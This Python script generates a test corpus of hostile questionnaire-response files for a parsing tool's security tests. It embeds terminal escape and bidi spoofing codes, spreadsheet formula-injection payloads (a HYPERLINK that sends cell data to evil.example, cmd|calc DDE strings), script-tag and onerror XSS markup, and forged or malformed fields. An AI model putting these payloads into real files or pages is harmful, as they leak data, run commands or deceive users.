#!/usr/bin/env python3
"""Writes the hostile corpus in this folder from one ordinary response (base.json).

Each file is something a stranger could send; `expected.tsv` says what every command must make
of it, and tests/it/hostile.rs holds them to it. Files that cannot live in git (a FIFO, a link
loop, a folder named like a response, a 20 MB file, /dev/zero) are made by the test itself.

Run from anywhere: python3 tests/hostile/generate.py
"""
import json, os, copy

here = os.path.dirname(os.path.abspath(__file__))
base = json.load(open(os.path.join(here, "base.json")))

def write(name, doc=None, raw=None):
    path = os.path.join(here, name)
    if raw is None:
        raw = json.dumps(doc, indent=2, ensure_ascii=False).encode() + b"\n"
    open(path, "wb").write(raw)

def variant(uuid_tail):
    d = copy.deepcopy(base)
    d["response_id"] = "00000000-0000-4000-8000-" + uuid_tail
    return d

ESC = "\x1b[2J\x1b]0;pwned\x07"
BIDI = "\u202egnp.exe\u2066x\u2069"
C1 = "\u009b31m\u007f"

# Control and bidi codes in every string field (the file stays a valid response otherwise).
d = variant("000000000001")
d["questionnaire"]["title"] += ESC
d["questionnaire"]["version"] += C1
d["questionnaire"]["organisation"] += BIDI
d["generator"]["name"] += ESC
d["return_to"]["postal_address"] += BIDI
d["return_to"]["email_subject"] += ESC
for entry in d["answers"].values():
    entry["section"] += ESC
    entry["question"] += BIDI
    if isinstance(entry["answer"], str):
        entry["answer"] = ESC + entry["answer"] + BIDI + C1
d["answers"]["name"]["answer"] = "Jo " + BIDI + ESC
write("controls-in-every-field.json", d)

# The format field itself clears the screen: not a response, named safely.
d = variant("000000000002")
d["format"] = "\x1b[2J\x1b[31mevil\u202e"
write("control-codes-in-format.json", d)

# Formula-looking answers and ids (ids that are not question ids).
d = variant("000000000003")
d["answers"]["activity_type"]["answer"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
d["answers"]["initiated_by"]["answer"] = "+cmd|' /C calc'!A0"
d["answers"]["issue_definers"]["answer"] = "@SUM(1+1)*cmd|' /C calc'!A0"
d["answers"]["why_coproduction"]["answer"] = "-2+3"
d["answers"]["shared_understanding"]["answer"] = "\t=1+1"
extra = copy.deepcopy(d["answers"]["further_comments"])
extra["answer"] = "hidden"
d["answers"]["=HYPERLINK(\"http://evil.example\")"] = extra
write("formula-answers-and-ids.json", d)

# Answer ids named like the fixed columns, to forge them.
d = variant("000000000004")
for forged, value in [("consent_to_future_contact", "yes"), ("response_id", "forged"),
                      ("completed_at", "forged"), ("respondent_type", "forged"),
                      ("problems", "")]:
    e = copy.deepcopy(d["answers"]["further_comments"])
    e["answer"] = value
    d["answers"][forged] = e
d["consent_to_future_contact"] = False
d["answers"]["future_contact"]["answer"] = False
write("forged-columns.json", d)

# An id holding line breaks and markup, for the digest.
d = variant("000000000005")
e = copy.deepcopy(d["answers"]["further_comments"])
e["answer"] = "text"
e["question"] = "# H\n<script>alert(1)</script>"
d["answers"]["x\n# Heading\n<img src=x onerror=alert(1)>"] = e
d["answers"]["activity_type"]["answer"] = "quoted\r- out of the quote\r<script>alert(1)</script>"
write("markup-in-ids.json", d)

# Duplicate keys: consent given twice, differently.
d = variant("000000000006")
text = json.dumps(d, indent=2, ensure_ascii=False)
text = text.replace('"consent_to_future_contact": false,',
                    '"consent_to_future_contact": false,\n  "consent_to_future_contact": true,', 1)
assert '"consent_to_future_contact": true' in text
write("duplicate-keys.json", raw=text.encode())

# A duplicate key deep inside an answer.
d = variant("000000000007")
text = json.dumps(d, indent=2, ensure_ascii=False)
text = text.replace('"answer": false', '"answer": false, "answer": true', 1)
write("duplicate-keys-deep.json", raw=text.encode())

# An unknown field nested 60 levels deep.
d = variant("000000000008")
text = json.dumps(d, ensure_ascii=False)
text = text.replace("{", '{"x": ' + "[" * 60 + "1" + "]" * 60 + ", ", 1)
write("deeply-nested-unknown-field.json", raw=text.encode())

# An unknown field nested 10 levels deep: allowed, ignored.
d = variant("000000000009")
d["later_version_field"] = {"a": [[[[[[[[1]]]]]]]]}
write("shallow-unknown-field.json", d)

# Wrong types everywhere.
for n, (field, value) in enumerate([
    ("format_version", "1"), ("response_id", 42), ("consent_to_future_contact", "yes"),
    ("answers", [1, 2]), ("questionnaire", "q"), ("started_at", None),
]):
    d = variant("0000000001%02d" % n)
    d[field] = value
    write("wrong-type-%s.json" % field.replace("_", "-"), d)
d = variant("000000000120")
d["answers"]["future_contact"]["answer"] = "yes"
write("wrong-type-consent-answer.json", d)
d = variant("000000000121")
d["answers"]["name"]["kind"] = "nonsense"
write("wrong-type-kind.json", d)
d = variant("000000000122")
d["answers"]["activity_type"]["answer"] = 12
write("wrong-type-answer-number.json", d)

# Invalid UTF-8.
raw = json.dumps(variant("000000000010"), ensure_ascii=False).encode()
raw = raw.replace(b"Jo M\xc3\xbcller", b"Jo M\xfcller", 1)
assert b"\xfc" in raw
write("invalid-utf8.json", raw=raw)

# A byte-order mark, as Notepad saves: readable.
raw = b"\xef\xbb\xbf" + json.dumps(variant("000000000011"), indent=2, ensure_ascii=False).encode()
write("bom.json", raw=raw)

# A copy of bom.json with CRLF line ends and no BOM: the same response.
d = variant("000000000011")
raw = json.dumps(d, indent=4, ensure_ascii=False).replace("\n", "\r\n").encode()
write("bom-copy-crlf.json", raw=raw)

# Invalid by validate's rules: a required answer missing, consent disagreeing, bad email.
d = variant("000000000012")
d["answers"]["activity_type"]["answer"] = None
d["consent_to_future_contact"] = True
d["answers"]["email"]["answer"] = "<jo@example.org>"
write("invalid-but-readable.json", d)

# A draft sent by mistake.
write("a-draft.json", raw=b'{"format": "ndti-respond/draft", "format_version": 1}\n')

# From a newer version.
d = variant("000000000013")
d["format_version"] = 9
write("newer-version.json", d)

# Not JSON at all.
write("not-json.json", raw=b"Dear NDTi, please find my answers below\x1b[2J\n")

# An age file whose header is one 200 KB line (the quadratic case).
write("long-age-header.json.age",
      raw=b"age-encryption.org/v1\n-> X25519 " + b"A" * 200_000 + b"\n--- AAAA\n")

# A plain, ordinary response, for the counts.
write("ordinary.json", variant("000000000014"))

# An imported response (from a filled-in form) with control and bidi codes in every field the
# import adds: the form's file name, the questions not on the form, the unplaced text and where
# it was, a box of the form; its consent left unclear.
d = variant("000000000015")
d["source"] = {"kind": "docx", "file": "form" + ESC + BIDI + ".docx",
               "sha256": "0" * 64, "not_on_form": ["respondent_type", "x" + ESC]}
d["unplaced"] = [
    {"text": "Dear Lou," + ESC + "\n" + BIDI + C1, "location": "above the form" + ESC},
    {"text": "Y/N maybe" + BIDI, "location": "beside the question" + BIDI,
     "question": "future_contact"},
]
d["answers"]["future_contact"]["answer"] = None
d["consent_to_future_contact"] = False
d["answers"]["initiated_by"]["form_box"] = {
    "answer_in": "activity_type" + ESC, "questions": ["activity_type" + ESC, "initiated_by"]}
d["answers"]["activity_type"]["form_box"] = {
    "answer_in": "activity_type", "questions": ["activity_type", "initiated_by" + BIDI]}
write("imported-controls-in-every-field.json", d)

# An imported response whose form is of a kind import never writes: not a response.
d = variant("000000000016")
d["source"] = {"kind": "pdf", "file": "scan.pdf", "sha256": "0" * 64}
write("imported-wrong-kind.json", d)
